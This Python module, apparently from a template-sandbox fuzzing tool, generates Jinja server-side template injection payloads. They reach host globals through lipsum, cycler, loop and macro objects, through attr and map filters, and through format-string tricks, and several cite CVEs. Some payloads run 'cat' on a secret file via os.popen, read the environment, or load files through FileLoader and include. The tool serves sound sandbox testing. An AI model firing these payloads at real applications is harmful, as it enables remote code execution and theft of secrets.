"""Templates that walk: attributes, filters that get or call, format strings, what is always there."""

from collections.abc import Iterator

from capfuzz.attacks.evaluators import SECRET_FILE, SECRET_NAME
from capfuzz.attacks.techniques.eval_parts import CANARY, ENVIRON, FIELD, READ, evaluated

_REF = "https://cwe.mitre.org/data/definitions/1336.html"
# A function, or a class whose __init__ is one, that a template finds in its globals.
_FUNCTIONS = ("lipsum",)
_CLASSES = ("cycler", "joiner", "namespace", "missing", "self", "loop", "caller")
_BUILTINS = ("range", "dict")
_HELPERS = ("apply", "call", "run", "invoke", "each", "attempt")


def _show(expression: str) -> str:
    return f"{{{{ {expression} }}}}"


def _globals() -> Iterator[str]:
    """Yield expressions for the globals of a module of the host."""
    yield from (f"{one}.__globals__" for one in _FUNCTIONS)
    yield from (f"{one}.__init__.__globals__" for one in _CLASSES)


@evaluated(
    "jinja-walk",
    group="template-walk",
    cwe="CWE-1336",
    platforms=("jinja",),
    needs="renders templates of others without a sandbox",
    refs=(_REF,),
)
def walk() -> Iterator[str]:
    """Walk from a value or from what every template is given to the globals of the host."""
    for names in _globals():
        yield _show(names + CANARY)
    yield _show(f"lipsum.__globals__['os']{ENVIRON}")
    yield _show(f"lipsum.__globals__['os'].popen('cat {SECRET_FILE}').read()")
    yield _show(f"lipsum.__globals__['__builtins__']['open']{READ}")
    for value in ("''", "()", "{}", "1", "range"):
        classes = f"{value}.__class__.__mro__[-1].__subclasses__()"
        read = f"c.get_data(0, '{SECRET_FILE}')"
        yield f"{{% for c in {classes} %}}{{% if c.__name__ == 'FileLoader' %}}{_show(read)}{{% endif %}}{{% endfor %}}"
    for given in (
        "config",
        "request.application",
        "url_for",
        "get_flashed_messages",
        "g",
        "session",
    ):
        yield _show(f"{given}.__globals__{CANARY}")
        yield _show(f"{given}.__class__.__init__.__globals__{CANARY}")
    yield _show(
        f"self._TemplateReference__context.eval_ctx.environment.__init__.__globals__{CANARY}"
    )


@evaluated(
    "jinja-subscript",
    group="template-subscript",
    cwe="CWE-184",
    platforms=("jinja",),
    needs="judges attributes behind a dot, and not those in brackets",
    refs=(_REF,),
)
def subscript() -> Iterator[str]:
    """Name the same attributes in brackets: joined, escaped, formatted, in a variable."""
    for name in (
        "'__globals__'",
        "'__glo' ~ 'bals__'",
        "'\\x5f\\x5fglobals\\x5f\\x5f'",
        "['__', 'globals__']|join",
        "'__slabolg__'|reverse|replace('slabolg', 'globals')",
    ):
        yield _show(f"lipsum[{name}]{CANARY}")
    yield _show(f"cycler['__init__']['__globals__']{CANARY}")
    yield "{% set n = '__globals__' %}" + _show(f"lipsum[n]{CANARY}")


@evaluated(
    "jinja-attr-filter",
    group="template-attr",
    cwe="CWE-184",
    platforms=("jinja",),
    needs="judges attributes, and not what filters get of the same name",
    refs=("CVE-2025-27516", _REF),
)
def attr_filter() -> Iterator[str]:
    """Let a filter get the attribute: attr, map, and those that sort, group and select."""
    for name in ("'__globals__'", "'__glo' ~ 'bals__'", "'\\x5f\\x5fglobals\\x5f\\x5f'"):
        yield _show(f"(lipsum|attr({name})){CANARY}")
        yield _show(f"([lipsum]|map(attribute={name})|first){CANARY}")
        yield _show(f"([lipsum]|map('attr', {name})|first){CANARY}")
    yield _show(f"(cycler|attr('__init__')|attr('__globals__')){CANARY}")
    yield _show(f"[lipsum]|map(attribute='__globals__.{SECRET_NAME}')|first")
    yield _show(f"[cycler]|map(attribute='__init__.__globals__.{SECRET_NAME}')|first")
    yield _show(f"[lipsum]|sum(attribute='__globals__.{SECRET_NAME}', start='')")
    yield _show(f"[lipsum]|groupby('__globals__.{SECRET_NAME}')")
    yield _show(f"[lipsum]|join(attribute='__globals__.{SECRET_NAME}')")


_STARTS = (
    ("lipsum", f".__globals__{FIELD}"),
    ("cycler", f".__init__.__globals__{FIELD}"),
    ("joiner", f".__init__.__globals__{FIELD}"),
    ("namespace", f".__init__.__globals__{FIELD}"),
    ("missing", f".__init__.__globals__{FIELD}"),
    ("missing", f".__class__.__init__.__globals__{FIELD}"),
)


@evaluated(
    "jinja-format",
    group="template-format",
    cwe="CWE-134",
    platforms=("jinja",),
    needs="judges attributes in templates, and not those in format strings",
    refs=("CVE-2016-10745", "CVE-2019-10906", _REF),
)
def format_() -> Iterator[str]:
    """Let a format string walk: format, format_map, and the same methods by other ways."""
    for start, path in _STARTS:
        yield _show(f"'{{0{path}}}'.format({start})")
        yield _show(f"'{{a{path}}}'.format(a={start})")
        yield _show(f"'{{a{path}}}'.format_map({{'a': {start}}})")
        yield _show(f"('{{0{path}}}'|safe).format({start})")
        yield _show(f"('{{a{path}}}'|safe).format_map({{'a': {start}}})")
        yield _show(f"('{{0{path}}}'|escape).format({start})")
        yield _show(f"('{{0{path}}}'|string).format({start})")


@evaluated(
    "jinja-format-got",
    group="template-format-got",
    cwe="CWE-134",
    platforms=("jinja",),
    needs="judges format where it stands behind a dot, and not where a filter got it",
    refs=("CVE-2025-27516", _REF),
)
def format_got() -> Iterator[str]:
    """Get the format method by a filter, and call it."""
    for start, path in _STARTS:
        yield _show(f"('{{0{path}}}'|attr('format'))({start})")
        yield _show(f"('{{a{path}}}'|attr('format_map'))({{'a': {start}}})")
        yield _show(f"('{{0{path}}}'['format'])({start})")
        yield _show(f"(['{{0{path}}}']|map(attribute='format')|first)({start})")
        yield _show(f"(['{{0{path}}}']|map('attr', 'format')|first)({start})")
    start, path = _STARTS[0]
    yield f"{{% set f = '{{0{path}}}'.format %}}" + _show(f"f({start})")
    yield f"{{% set n = namespace(f='{{0{path}}}'.format) %}}" + _show(f"n.f({start})")
    yield f"{{% set f = ('{{0{path}}}'|attr('format')) %}}" + _show(f"f({start})")
    yield _show(f"({{'f': '{{0{path}}}'.format}}).f({start})")


@evaluated(
    "jinja-format-passed",
    group="template-format-passed",
    cwe="CWE-693",
    platforms=("jinja",),
    needs="judges calls in templates, and hands what is called to helpers that call it",
    refs=("CVE-2024-56326", _REF),
)
def format_passed() -> Iterator[str]:
    """Hand the format method to a filter or a function that calls what it is given."""
    for helper in _HELPERS:
        for start, path in _STARTS[:4] if helper == _HELPERS[0] else _STARTS[:1]:
            method = f"'{{0{path}}}'.format"
            yield _show(f"{method}|{helper}({start})")
            yield _show(f"{start}|{helper}({method})")
            yield _show(f"[{start}]|{helper}({method})|list")
            yield _show(f"{helper}({method}, {start})")
            # A helper that calls a method of its own name.
            yield f"{{% set n = namespace({helper}={method}) %}}" + _show(f"n|{helper}({start})")
            yield f"{{% set n = namespace() %}}{{% set n.{helper} = {method} %}}" + _show(
                f"n|{helper}({start})"
            )
    for start, path in _STARTS[:3]:
        yield _show(f"[{start}]|map('{{0{path}}}'.format)|list")
        yield _show(f"[{start}]|sort(attribute='{{0{path}}}'.format)")


@evaluated(
    "jinja-inside",
    group="template-inside",
    cwe="CWE-913",
    platforms=("jinja",),
    needs="leaves objects of the engine itself within reach of a template",
    refs=(_REF,),
)
def inside() -> Iterator[str]:
    """Start from what the engine makes: macros, loops, blocks, callers, included files."""
    yield "{% macro m() %}{% endmacro %}" + _show(f"m._func.__globals__{CANARY}")
    yield "{% macro m() %}{% endmacro %}" + _show(f"m.__init__.__globals__{CANARY}")
    yield f"{{% for x in [1] %}}{_show(f'loop.__init__.__globals__{CANARY}')}{{% endfor %}}"
    yield f"{{% for x in [1] %}}{_show(f'loop.changed.__globals__{CANARY}')}{{% endfor %}}"
    yield f"{{% macro m() %}}{_show(f'caller._func.__globals__{CANARY}')}{{% endmacro %}}{{% call m() %}}{{% endcall %}}"
    yield f"{{% block b %}}{_show(f'self.b.__init__.__globals__{CANARY}')}{{% endblock %}}"
    yield _show(f"self._TemplateReference__context.parent['lipsum'].__globals__{CANARY}")
    yield _show(f"(range|attr('__self__')) ~ dict.__base__.__subclasses__(){CANARY}")
    yield f"{{% include '{SECRET_FILE}' %}}"
    yield f"{{% import '{SECRET_FILE}' as f %}}" + _show("f")
    yield f"{{% extends '{SECRET_FILE}' %}}"
    yield "{% set x = (1|attr('__class__')) %}" + _show(f"x.__base__.__subclasses__(){CANARY}")
    yield "{% print(lipsum.__globals__" + CANARY + ") %}"
